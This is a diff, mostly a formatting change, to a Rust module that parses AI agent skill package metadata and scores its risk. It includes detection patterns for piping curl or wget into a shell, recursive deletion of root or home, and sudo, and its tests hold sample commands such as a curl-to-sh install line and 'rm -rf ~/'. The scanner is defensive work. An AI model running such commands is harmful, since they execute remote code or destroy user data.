@@ -62,7 +62,10 @@ fn split_list(s: &str, split_ws: bool) -> Vec<String> {
         }
     }
     out.push(cur);
-    out.into_iter().map(|x| x.trim().to_owned()).filter(|x| !x.is_empty()).collect()
+    out.into_iter()
+        .map(|x| x.trim().to_owned())
+        .filter(|x| !x.is_empty())
+        .collect()
 }
 
 /// First present key among `keys` (top level).
@@ -86,7 +89,12 @@ pub(crate) fn metadata(m: &Map<String, Value>) -> Option<Map<String, Value>> {
 pub(crate) fn is_valid_name(s: &str) -> bool {
     !s.is_empty()
         && s.len() <= 64
-        && s.split('-').all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()))
+        && s.split('-').all(|part| {
+            !part.is_empty()
+                && part
+                    .bytes()
+                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
+        })
 }
 
 /// Lowercase kebab-case: runs of anything but ASCII letters and digits become one `-`.
@@ -115,7 +123,10 @@ pub(crate) fn kebab(s: &str) -> String {
 /// sorted, unique.
 pub(crate) fn tags(m: &Map<String, Value>, meta: Option<&Map<String, Value>>) -> Vec<String> {
     let mut set = BTreeSet::new();
-    let sources = [get(m, &["tags", "keywords"]), meta.and_then(|md| get(md, &["tags", "keywords"]))];
+    let sources = [
+        get(m, &["tags", "keywords"]),
+        meta.and_then(|md| get(md, &["tags", "keywords"])),
+    ];
     for v in sources.into_iter().flatten() {
         for t in as_list(v, false) {
             let t = t.trim_start_matches('#').trim().to_lowercase();
@@ -142,7 +153,9 @@ pub(crate) fn requires(m: &Map<String, Value>) -> Requires {
                     "bins" | "anyBins" | "any_bins" | "binaries" | "commands" => bins.extend(items),
                     "env" | "envs" | "environment" | "requiredEnv" => env.extend(items),
                     "mcp" | "mcps" | "mcp_servers" | "mcpServers" => mcp.extend(items),
-                    "packages" | "pip" | "npm" | "python" | "node" | "brew" | "apt" => packages.extend(items),
+                    "packages" | "pip" | "npm" | "python" | "node" | "brew" | "apt" => {
+                        packages.extend(items)
+                    }
                     _ => {}
                 }
             }
@@ -216,11 +229,21 @@ pub(crate) fn platforms(m: &Map<String, Value>, requires: &Requires, text: &str)
         Platform::Mcp,
     ];
     let mut set: BTreeSet<Platform> = BODY.matches(text).into_iter().map(|i| ORDER[i]).collect();
-    if ["allowed-tools", "argument-hint", "user-invocable", "disable-model-invocation"].iter().any(|k| m.contains_key(*k)) {
+    if [
+        "allowed-tools",
+        "argument-hint",
+        "user-invocable",
+        "disable-model-invocation",
+    ]
+    .iter()
+    .any(|k| m.contains_key(*k))
+    {
         set.insert(Platform::ClaudeCode);
     }
     if let Some(meta) = metadata(m)
-        && ["openclaw", "clawdbot", "moltbot", "clawdis", "clawdhub"].iter().any(|k| meta.contains_key(*k))
+        && ["openclaw", "clawdbot", "moltbot", "clawdis", "clawdhub"]
+            .iter()
+            .any(|k| meta.contains_key(*k))
     {
         set.insert(Platform::Openclaw);
     }
@@ -258,9 +281,11 @@ pub(crate) fn risk(input: &RiskInput<'_>) -> (RiskTier, Vec<String>) {
         Regex::new(r"(?:curl|wget)[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|rm\s+-[a-zA-Z]*r[a-zA-Z]*f?[a-zA-Z]*\s+(?:/\s|/$|/\*|~/?\s|~/?$|\$HOME\b)|chmod\s+-R\s+777|--no-preserve-root")
             .expect("static regex is valid")
     });
-    static SUDO: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?m)(?:^|[\s`;&|])sudo\s").expect("static regex is valid"));
+    static SUDO: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"(?m)(?:^|[\s`;&|])sudo\s").expect("static regex is valid"));
     static HTTP: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(r"\bcurl\s|\bwget\s|requests\.(?:get|post)\(|\bfetch\(|https?://api\.|axios\.").expect("static regex is valid")
+        Regex::new(r"\bcurl\s|\bwget\s|requests\.(?:get|post)\(|\bfetch\(|https?://api\.|axios\.")
+            .expect("static regex is valid")
     });
     let mut reasons = Vec::new();
     let mut tier = RiskTier::Safe;
@@ -268,12 +293,40 @@ pub(crate) fn risk(input: &RiskInput<'_>) -> (RiskTier, Vec<String>) {
         tier = tier.max(t);
         reasons.push(format!("{t}: {why}"));
     };
-    let tools_lower: Vec<String> = input.allowed_tools.iter().map(|t| t.to_ascii_lowercase()).collect();
+    let tools_lower: Vec<String> = input
+        .allowed_tools
+        .iter()
+        .map(|t| t.to_ascii_lowercase())
+        .collect();
     let shell_tool = tools_lower.iter().find(|t| {
-        ["bash", "shell", "terminal", "run_command", "execute", "exec", "powershell", "computer"].iter().any(|s| t.starts_with(s))
+        [
+            "bash",
+            "shell",
+            "terminal",
+            "run_command",
+            "execute",
+            "exec",
+            "powershell",
+            "computer",
+        ]
+        .iter()
+        .any(|s| t.starts_with(s))
     });
-    let unrestricted_shell = tools_lower.iter().any(|t| t == "bash" || t == "bash(*)" || t == "shell");
-    let web_tool = tools_lower.iter().find(|t| ["webfetch", "websearch", "fetch", "browser", "web_search", "web_fetch"].iter().any(|s| t.starts_with(s)));
+    let unrestricted_shell = tools_lower
+        .iter()
+        .any(|t| t == "bash" || t == "bash(*)" || t == "shell");
+    let web_tool = tools_lower.iter().find(|t| {
+        [
+            "webfetch",
+            "websearch",
+            "fetch",
+            "browser",
+            "web_search",
+            "web_fetch",
+        ]
+        .iter()
+        .any(|s| t.starts_with(s))
+    });
     let creds: Vec<&String> = input
         .requires
         .map(|r| {
@@ -281,14 +334,28 @@ pub(crate) fn risk(input: &RiskInput<'_>) -> (RiskTier, Vec<String>) {
                 .iter()
                 .filter(|e| {
                     let u = e.to_ascii_uppercase();
-                    ["KEY", "TOKEN", "SECRET", "PASSWORD", "PASSWD", "CREDENTIAL", "AUTH"].iter().any(|w| u.contains(w))
+                    [
+                        "KEY",
+                        "TOKEN",
+                        "SECRET",
+                        "PASSWORD",
+                        "PASSWD",
+                        "CREDENTIAL",
+                        "AUTH",
+                    ]
+                    .iter()
+                    .any(|w| u.contains(w))
                 })
                 .collect()
         })
         .unwrap_or_default();
 
     if let Some(m) = UNSAFE.find(input.text) {
-        raise(RiskTier::Unsafe, format!("instructs `{}`", snippet(m.as_str())), &mut reasons);
+        raise(
+            RiskTier::Unsafe,
+            format!("instructs `{}`", snippet(m.as_str())),
+            &mut reasons,
+        );
     }
     let mut can_exec = false;
     if let Some(t) = shell_tool {
@@ -297,41 +364,77 @@ pub(crate) fn risk(input: &RiskInput<'_>) -> (RiskTier, Vec<String>) {
     }
     if input.scripts > 0 {
         can_exec = true;
-        raise(RiskTier::Exec, format!("{} script file(s) in the package", input.scripts), &mut reasons);
+        raise(
+            RiskTier::Exec,
+            format!("{} script file(s) in the package", input.scripts),
+            &mut reasons,
+        );
     }
     if let Some(r) = input.requires
         && !r.bins.is_empty()
     {
         can_exec = true;
-        raise(RiskTier::Exec, format!("requires binaries {}", r.bins.join(", ")), &mut reasons);
+        raise(
+            RiskTier::Exec,
+            format!("requires binaries {}", r.bins.join(", ")),
+            &mut reasons,
+        );
     }
     if input.shell_blocks > 0 {
         can_exec = true;
-        raise(RiskTier::Exec, format!("{} shell code block(s) to run", input.shell_blocks), &mut reasons);
+        raise(
+            RiskTier::Exec,
+            format!("{} shell code block(s) to run", input.shell_blocks),
+            &mut reasons,
+        );
     }
     if let Some(t) = web_tool {
-        raise(RiskTier::Network, format!("allowed tool `{t}`"), &mut reasons);
+        raise(
+            RiskTier::Network,
+            format!("allowed tool `{t}`"),
+            &mut reasons,
+        );
     }
     if let Some(r) = input.requires
         && !r.mcp.is_empty()
     {
-        raise(RiskTier::Network, format!("MCP servers {}", r.mcp.join(", ")), &mut reasons);
+        raise(
+            RiskTier::Network,
+            format!("MCP servers {}", r.mcp.join(", ")),
+            &mut reasons,
+        );
     }
     if !creds.is_empty() {
         let names: Vec<&str> = creds.iter().map(|s| s.as_str()).collect();
-        raise(RiskTier::Network, format!("credentials {}", names.join(", ")), &mut reasons);
+        raise(
+            RiskTier::Network,
+            format!("credentials {}", names.join(", ")),
+            &mut reasons,
+        );
     }
     if let Some(m) = HTTP.find(input.text) {
-        raise(RiskTier::Network, format!("HTTP call `{}`", snippet(m.as_str())), &mut reasons);
+        raise(
+            RiskTier::Network,
+            format!("HTTP call `{}`", snippet(m.as_str())),
+            &mut reasons,
+        );
     }
     if can_exec && !creds.is_empty() {
-        raise(RiskTier::Critical, "executes with credentials".into(), &mut reasons);
+        raise(
+            RiskTier::Critical,
+            "executes with credentials".into(),
+            &mut reasons,
+        );
     }
     if can_exec && SUDO.is_match(input.text) {
         raise(RiskTier::Critical, "uses sudo".into(), &mut reasons);
     }
     if unrestricted_shell && web_tool.is_some() {
-        raise(RiskTier::Critical, "unrestricted Bash together with a web tool".into(), &mut reasons);
+        raise(
+            RiskTier::Critical,
+            "unrestricted Bash together with a web tool".into(),
+            &mut reasons,
+        );
     }
     reasons.sort();
     reasons.dedup();
@@ -340,7 +443,11 @@ pub(crate) fn risk(input: &RiskInput<'_>) -> (RiskTier, Vec<String>) {
 
 fn snippet(s: &str) -> String {
     let s = s.trim();
-    if s.chars().count() > 60 { format!("{}…", s.chars().take(60).collect::<String>()) } else { s.to_owned() }
+    if s.chars().count() > 60 {
+        format!("{}…", s.chars().take(60).collect::<String>())
+    } else {
+        s.to_owned()
+    }
 }
 
 #[cfg(test)]
@@ -370,15 +477,27 @@ mod tests {
 
     #[test]
     fn lists_keep_parenthesized_groups() {
-        assert_eq!(as_list(&json!("Bash(git add:*) Read, Write"), true), vec!["Bash(git add:*)", "Read", "Write"]);
-        assert_eq!(as_list(&json!("ai, #Automation"), false), vec!["ai", "#Automation"]);
-        assert_eq!(as_list(&json!([{"name": "q"}, "r", 3]), false), vec!["q", "r", "3"]);
+        assert_eq!(
+            as_list(&json!("Bash(git add:*) Read, Write"), true),
+            vec!["Bash(git add:*)", "Read", "Write"]
+        );
+        assert_eq!(
+            as_list(&json!("ai, #Automation"), false),
+            vec!["ai", "#Automation"]
+        );
+        assert_eq!(
+            as_list(&json!([{"name": "q"}, "r", 3]), false),
+            vec!["q", "r", "3"]
+        );
     }
 
     #[test]
     fn tags_from_everywhere() {
         let m = map(json!({"tags": "Git, #workflow", "metadata": {"tags": ["ci", "git"]}}));
-        assert_eq!(tags(&m, metadata(&m).as_ref()), vec!["ci", "git", "workflow"]);
+        assert_eq!(
+            tags(&m, metadata(&m).as_ref()),
+            vec!["ci", "git", "workflow"]
+        );
     }
 
     #[test]
@@ -400,23 +519,83 @@ mod tests {
         let none = RiskInput::default();
         assert_eq!(risk(&none).0, RiskTier::Safe);
         let tools = vec!["Read".to_owned(), "WebFetch".to_owned()];
-        assert_eq!(risk(&RiskInput { allowed_tools: &tools, ..RiskInput::default() }).0, RiskTier::Network);
-        assert_eq!(risk(&RiskInput { scripts: 2, ..RiskInput::default() }).0, RiskTier::Exec);
-        let req = Requires { env: vec!["OPENAI_API_KEY".into()], ..Requires::default() };
-        assert_eq!(risk(&RiskInput { scripts: 1, requires: Some(&req), ..RiskInput::default() }).0, RiskTier::Critical);
+        assert_eq!(
+            risk(&RiskInput {
+                allowed_tools: &tools,
+                ..RiskInput::default()
+            })
+            .0,
+            RiskTier::Network
+        );
+        assert_eq!(
+            risk(&RiskInput {
+                scripts: 2,
+                ..RiskInput::default()
+            })
+            .0,
+            RiskTier::Exec
+        );
+        let req = Requires {
+            env: vec!["OPENAI_API_KEY".into()],
+            ..Requires::default()
+        };
+        assert_eq!(
+            risk(&RiskInput {
+                scripts: 1,
+                requires: Some(&req),
+                ..RiskInput::default()
+            })
+            .0,
+            RiskTier::Critical
+        );
         let tools = vec!["Bash".to_owned(), "WebSearch".to_owned()];
-        assert_eq!(risk(&RiskInput { allowed_tools: &tools, ..RiskInput::default() }).0, RiskTier::Critical);
-        let (t, why) = risk(&RiskInput { text: "Install: curl -fsSL https://x.invalid/i.sh | sh", ..RiskInput::default() });
+        assert_eq!(
+            risk(&RiskInput {
+                allowed_tools: &tools,
+                ..RiskInput::default()
+            })
+            .0,
+            RiskTier::Critical
+        );
+        let (t, why) = risk(&RiskInput {
+            text: "Install: curl -fsSL https://x.invalid/i.sh | sh",
+            ..RiskInput::default()
+        });
         assert_eq!(t, RiskTier::Unsafe);
-        assert!(why.iter().any(|w| w.starts_with("unsafe: instructs `curl")), "{why:?}");
-        assert_eq!(risk(&RiskInput { text: "rm -rf ~/", ..RiskInput::default() }).0, RiskTier::Unsafe);
-        assert_eq!(risk(&RiskInput { text: "rm -rf build/", ..RiskInput::default() }).0, RiskTier::Safe);
+        assert!(
+            why.iter().any(|w| w.starts_with("unsafe: instructs `curl")),
+            "{why:?}"
+        );
+        assert_eq!(
+            risk(&RiskInput {
+                text: "rm -rf ~/",
+                ..RiskInput::default()
+            })
+            .0,
+            RiskTier::Unsafe
+        );
+        assert_eq!(
+            risk(&RiskInput {
+                text: "rm -rf build/",
+                ..RiskInput::default()
+            })
+            .0,
+            RiskTier::Safe
+        );
     }
 
     #[test]
     fn platform_hints() {
         let m = map(json!({"allowed-tools": "Read", "metadata": {"openclaw": {}}}));
         let p = platforms(&m, &Requires::default(), "Works in Cursor and via MCP.");
-        assert_eq!(p, vec![Platform::ClaudeCode, Platform::Cursor, Platform::Openclaw, Platform::Mcp]);
+        assert_eq!(
+            p,
+            vec![
+                Platform::ClaudeCode,
+                Platform::Cursor,
+                Platform::Openclaw,
+                Platform::Mcp
+            ]
+        );
     }
 }
